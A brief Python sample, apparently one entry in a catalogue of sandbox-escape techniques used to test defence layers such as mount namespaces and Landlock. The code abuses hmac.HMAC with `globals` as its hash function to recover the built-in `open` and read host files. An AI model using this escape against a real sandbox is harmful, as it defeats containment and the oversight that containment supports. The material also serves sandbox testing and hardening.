# technique: globals as the hash function of a keyed hash
# family: A
# severity: H
# layers: policy, mount_namespace, landlock
import hmac

class Own(hmac.HMAC):
    def __init__(self):
        try:
            super().__init__(b"k", b"", globals)
        except Exception:
            pass

read_host(lambda: Own()._outer["__builtins__"]["open"])
